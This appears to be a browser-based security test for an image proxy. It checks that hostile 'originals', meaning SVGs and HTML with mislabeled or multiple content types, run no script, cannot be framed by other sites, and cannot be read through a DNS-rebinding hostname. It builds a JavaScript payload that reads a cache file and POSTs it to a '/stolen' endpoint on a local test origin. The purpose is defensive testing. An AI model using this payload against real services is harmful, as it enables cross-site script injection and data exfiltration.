#!/usr/bin/env python3
"""What a browser makes of hostile originals: `original_test.py SERVER`.

SERVER is the address of a `pipectl serve` without keys, which may fetch from loopback addresses. The origin and the pages of
another site are this program's own.
Needs playwright and Debian's chromium (scripts/install-dependencies chromium).
"""
import contextlib
import http.server
import pathlib
import sys
import threading
import urllib.parse

from playwright.sync_api import Error, sync_playwright

TIMEOUT = 60_000
PHOTO = pathlib.Path(__file__).parents[2] / "samples/originals/meadow-small.jpg"
# As permissive as an origin can be.
LENIENT = [
    ("Content-Security-Policy", "default-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin"),
    ("Content-Disposition", "inline"), ("X-Content-Type-Options", "none"),
]


def script(name, origin):
    """Reads what only this machine may see, and reports to the origin."""
    return (f"new Image().src = '{origin}/ran/{name}';"
            f"fetch('/page/cache.json').then((answer) => answer.text()).then((text) =>"
            f" fetch('{origin}/stolen', {{ method: 'POST', mode: 'no-cors', body: text }}));")


class Origin(http.server.BaseHTTPRequestHandler):
    """An origin of pictures and of what only claims to be one; by its other name, a site that opens them."""
    protocol_version = "HTTP/1.1"
    seen = []
    pages = {}

    def do_GET(self):
        Origin.seen.append(self.path)
        own = f"http://127.0.0.1:{self.server.server_port}"
        kind, name = self.path.split("/")[1], self.path.split("/")[-1]
        page = f"<!doctype html><body><script>{script(name, own)}</script>".encode()
        svg = (f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>{script(name, own)}</script></svg>"
               .encode())
        photo = PHOTO.read_bytes()
        answers = {
            "svg": ("image/svg+xml", svg), "svg-comment": ("image/svg+xml (text)", svg), "bare": (None, page),
            "two": ("image/png, text/html", page), "lines": (["image/png", "text/html"], page),
            "bytes": ("application/octet-stream", page), "photo": ("image/jpeg", photo), "typeless": (None, photo),
        }
        if kind == "pages":
            self.answer("text/html", Origin.pages[name].encode(), [])
        elif kind in answers:
            self.answer(*answers[kind], LENIENT)
        else:
            self.answer("image/gif", b"", [])

    def do_POST(self):
        Origin.seen.append(self.path)
        self.rfile.read(int(self.headers["Content-Length"]))
        self.answer("text/plain", b"", [])

    def answer(self, types, body, fields):
        self.send_response_only(200)
        for value in types if isinstance(types, list) else [types] if types else []:
            self.send_header("Content-Type", value)
        for name, value in fields:
            self.send_header(name, value)
        self.send_header("Cache-Control", "max-age=600")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


HOSTILE = ["svg", "svg-comment", "bare", "two", "lines", "bytes"]
checks = []


def check(action):
    """Registers a check; its name is printed when it has passed."""
    checks.append(action)
    return action


class Bench:
    def __init__(self, browser, server, port):
        self.server, self.port = server, port
        self.context = browser.new_context(accept_downloads=False)
        self.context.set_default_timeout(TIMEOUT)
        self.page = self.context.new_page()

    def original(self, path):
        source = f"http://127.0.0.1:{self.port}{path}"
        return f"{self.server}/original/unsigned/{urllib.parse.quote(source, safe='')}"

    def visit(self, url):
        """Opens a URL as if it were typed; the answer's status, or None if it is saved in place of being shown."""
        try:
            # Load waits for the pictures that a script of the page has asked for.
            return self.page.goto(url).status
        except Error as error:
            if "Download is starting" in str(error) or "ERR_ABORTED" in str(error):
                return None
            raise

    def other_site(self, name, body):
        """A page of another site: the same address by another name."""
        Origin.pages[name] = f"<!doctype html><body>{body}"
        return f"http://localhost:{self.port}/pages/{name}"


def nothing_ran():
    ran = [path for path in Origin.seen if path.startswith(("/ran/", "/stolen"))]
    assert ran == [], ran


@check
def typed_originals_run_nothing(bench):
    for kind in HOSTILE:
        bench.visit(bench.original(f"/{kind}/typed-{kind}"))
    nothing_ran()


@check
def frames_and_windows_of_other_sites_run_nothing(bench):
    for kind in HOSTILE:
        url = bench.original(f"/{kind}/framed-{kind}")
        frames = "".join(f"<{tag} {attribute}='{url}'></{tag}>" for tag, attribute in
                         (("iframe", "src"), ("object", "data"), ("embed", "src")))
        bench.page.goto(bench.other_site("frames", frames))
        link = bench.other_site("link", f"<a href='{url}'>a picture</a>")
        bench.page.goto(link)
        with contextlib.suppress(Error):
            with bench.page.expect_navigation():
                bench.page.get_by_text("a picture").click()
    nothing_ran()


@check
def pictures_show_on_no_other_site(bench):
    for kind in ("photo", "typeless"):
        assert bench.visit(bench.original(f"/{kind}/a")) == 200, kind
    shown = bench.other_site("shown", "".join(f"<img src='{bench.original(f'/{kind}/a')}'>" for kind in
                                              ("photo", "typeless", "svg")))
    bench.page.goto(shown)
    widths = bench.page.evaluate("[...document.images].map((image) => image.naturalWidth)")
    assert widths == [0, 0, 0], widths
    nothing_ran()


@check
def other_sites_open_no_original(bench):
    statuses = {}
    bench.page.on("response", lambda answer: statuses.update({answer.url: answer.status}))
    url = bench.original("/photo/opened")
    for tag, attribute in (("iframe", "src"), ("object", "data"), ("embed", "src")):
        statuses.clear()
        bench.page.goto(bench.other_site("opener", f"<{tag} {attribute}='{url}'></{tag}>"))
        assert statuses.get(url) == 403, (tag, statuses)
    bench.page.goto(bench.other_site("link", f"<a href='{url}'>a picture</a>"))
    with bench.page.expect_navigation() as navigation:
        bench.page.get_by_text("a picture").click()
    assert navigation.value.status == 403
    # Its own pages may, and typing the address is nobody's page.
    assert bench.visit(url) == 200


@check
def a_name_pointed_at_this_machine_reads_nothing(bench):
    port = urllib.parse.urlsplit(bench.server).port
    photo = f"http://127.0.0.1:{bench.port}/photo/rebound"
    source = urllib.parse.quote(photo, safe="")
    bench.page.goto(f"http://rebound.test:{port}/health")
    paths = [f"/variant/unsigned/thumbnail:20,png/{source}", f"/original/unsigned/{source}", f"/info/unsigned/{source}",
             "/metrics", "/page/cache.json"]
    for path in paths:
        status = bench.page.evaluate("async (path) => (await fetch(path)).status", path)
        assert status == 403, (path, status)
    bench.page.goto(bench.server + "/health")
    for path in paths:
        status = bench.page.evaluate("async (path) => (await fetch(path)).status", path)
        assert status == 200, (path, status)


def main():
    server = sys.argv[1]
    only = sys.argv[2:]
    failed = False
    origin = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Origin)
    threading.Thread(target=origin.serve_forever, daemon=True).start()
    with sync_playwright() as playwright, contextlib.closing(playwright.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--no-sandbox", "--disable-background-networking", "--disable-component-update",
                  "--host-resolver-rules=MAP rebound.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
                  "--proxy-server=direct://"])) as browser:
        for action in checks:
            if only and action.__name__ not in only:
                continue
            bench = Bench(browser, server, origin.server_port)
            Origin.seen.clear()
            try:
                action(bench)
                print("passed", action.__name__, flush=True)
            except Exception as error:  # noqa: BLE001: each failure is a line of the report
                failed = True
                print("failed", action.__name__, str(error)[:1500], flush=True)
            bench.context.close()
    origin.shutdown()
    print("done", flush=True)
    sys.exit(failed)


main()
